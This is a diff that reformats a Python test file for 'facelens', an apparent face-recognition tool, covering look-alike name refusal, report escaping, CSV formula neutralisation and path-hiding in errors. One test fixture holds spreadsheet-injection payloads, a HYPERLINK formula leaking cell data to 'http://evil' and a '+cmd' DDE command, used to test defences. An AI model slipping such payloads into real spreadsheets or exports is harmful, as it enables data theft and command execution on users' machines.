@@ -20,8 +20,8 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from facelens.agent.sessions import store
 from facelens.agent.cli import main
+from facelens.agent.sessions import store
 from facelens.agent.sessions.store import SessionRecord, SessionSegment, TimelineEntry, TrackInfo
 from facelens.tools import atomic
 from facelens.tools.errors import InputError
@@ -38,7 +38,9 @@ try:
     HAVE_MILVUS = True
 except Exception:  # ImportError, or pkg_resources missing
     HAVE_MILVUS = False
-needs_milvus = pytest.mark.skipif(not HAVE_MILVUS, reason="needs pymilvus and milvus-lite (pip install 'facelens[milvus]')")
+needs_milvus = pytest.mark.skipif(
+    not HAVE_MILVUS, reason="needs pymilvus and milvus-lite (pip install 'facelens[milvus]')"
+)
 
 
 def _unit(seed: int, n: int = 1) -> np.ndarray:
@@ -60,17 +62,20 @@ def milvus_env(monkeypatch, facelens_home):
 # --- 12. look-alike names ---------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("name", [
-    "Alice\u3164",  # HANGUL FILLER
-    "Alice\ufe0f",  # VARIATION SELECTOR-16
-    "Al\u034fice",  # COMBINING GRAPHEME JOINER
-    "Alice\u2800",  # BRAILLE PATTERN BLANK
-    "\u2800",
-    "\u0410lice",  # Cyrillic capital A, then Latin
-    "Alic\u0435",  # Latin, then a Cyrillic e
-    "\u0410\u04cf\u0456\u0441\u0435",  # all Cyrillic, and looks like "Alice"
-    "\u0391lice",  # Greek Alpha
-])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "Alice\u3164",  # HANGUL FILLER
+        "Alice\ufe0f",  # VARIATION SELECTOR-16
+        "Al\u034fice",  # COMBINING GRAPHEME JOINER
+        "Alice\u2800",  # BRAILLE PATTERN BLANK
+        "\u2800",
+        "\u0410lice",  # Cyrillic capital A, then Latin
+        "Alic\u0435",  # Latin, then a Cyrillic e
+        "\u0410\u04cf\u0456\u0441\u0435",  # all Cyrillic, and looks like "Alice"
+        "\u0391lice",  # Greek Alpha
+    ],
+)
 def test_look_alike_names_are_refused_and_removal_leaves_none(name, capsys):
     FaissGallery().add("Alice", _unit(1), ["a.jpg"])
     with pytest.raises(InputError):
@@ -117,13 +122,28 @@ def _render(markdown: str) -> str:
 
 
 def _hostile_session(sid: str = "call") -> None:
-    people = [TrackInfo(track=1, name=PIXEL, first_seen=0, last_seen=1, seconds=1),
-              TrackInfo(track=2, name=SCRIPT, first_seen=0, last_seen=1, seconds=1)]
+    people = [
+        TrackInfo(track=1, name=PIXEL, first_seen=0, last_seen=1, seconds=1),
+        TrackInfo(track=2, name=SCRIPT, first_seen=0, last_seen=1, seconds=1),
+    ]
     timeline = [TimelineEntry(start=0, end=1, emotion="happy", confidence=0.9, track=1)]
-    transcript = [SessionSegment(start=0, end=1, text='=HYPERLINK("http://evil/?"&A1,"click")', cues=["-2+3"]),
-                  SessionSegment(start=1, end=2, text="@SUM(A1:A9)"), SessionSegment(start=2, end=3, text="+cmd|' /C calc'!A0")]
-    rec = SessionRecord(session_id=sid, source=f"{sid}.mp4", created=store.now(), duration=3, has_video=True, has_audio=True,
-                        fps=2, people=people, timeline=timeline, transcript=transcript)
+    transcript = [
+        SessionSegment(start=0, end=1, text='=HYPERLINK("http://evil/?"&A1,"click")', cues=["-2+3"]),
+        SessionSegment(start=1, end=2, text="@SUM(A1:A9)"),
+        SessionSegment(start=2, end=3, text="+cmd|' /C calc'!A0"),
+    ]
+    rec = SessionRecord(
+        session_id=sid,
+        source=f"{sid}.mp4",
+        created=store.now(),
+        duration=3,
+        has_video=True,
+        has_audio=True,
+        fps=2,
+        people=people,
+        timeline=timeline,
+        transcript=transcript,
+    )
     store.save(rec, [])
 
 
@@ -132,7 +152,7 @@ def test_markdown_report_shows_names_as_text():
 
     _hostile_session()
     html = _render(report("call", "md"))
-    assert "<img" not in html and "<script" not in html and "http://host/pixel.png\"" not in html and "href=" not in html
+    assert "<img" not in html and "<script" not in html and 'http://host/pixel.png"' not in html and "href=" not in html
     assert "![x](http://host/pixel.png)" in html  # shown, as typed
     assert "&lt;script&gt;" in html
 
@@ -144,7 +164,7 @@ def test_csv_export_neutralises_formulas():
     rows = list(csv.reader(io.StringIO(export("call", "csv"))))
     cells = [c for row in rows[1:] for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
-    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")" in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
+    assert '\'=HYPERLINK("http://evil/?"&A1,"click")' in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
     assert "0.9" in cells  # numbers stay numbers
 
 
@@ -330,7 +350,9 @@ def test_doctor_checks_the_api_key_file_and_rest_errors_hide_paths(facelens_home
         for headers in ({"Authorization": "Bearer flk_nope_nope"}, {"Authorization": f"Bearer {token}"}, {}):
             r = client.get("/v1/gallery", headers=headers)
             assert r.status_code >= 400
-            assert str(facelens_home) not in r.text and "/tmp" not in r.text and os.path.expanduser("~") not in r.text, r.text
+            assert (
+                str(facelens_home) not in r.text and "/tmp" not in r.text and os.path.expanduser("~") not in r.text
+            ), r.text
 
 
 # --- 14. a full disk is a one-line error, exit 2, nothing changed -------------------------------------
@@ -349,7 +371,10 @@ def test_full_disk_enroll_apikey_exemplar(facelens_home, hopper_jpg, capsys, mon
     assert main(["enroll", "Grace Hopper", str(hopper_jpg)]) == 2
     _one_line_disk_error(capsys.readouterr().err)
     assert (facelens_home / "gallery" / "gallery.npz").read_bytes() == before
-    for args in (["apikey", "create", "bob", "--role", "reader"], ["exemplars", "add", str(hopper_jpg), "--label", "happy"]):
+    for args in (
+        ["apikey", "create", "bob", "--role", "reader"],
+        ["exemplars", "add", str(hopper_jpg), "--label", "happy"],
+    ):
         monkeypatch.setattr(atomic, "_WRITES", 0)
         assert main(args) == 2, args
         _one_line_disk_error(capsys.readouterr().err)
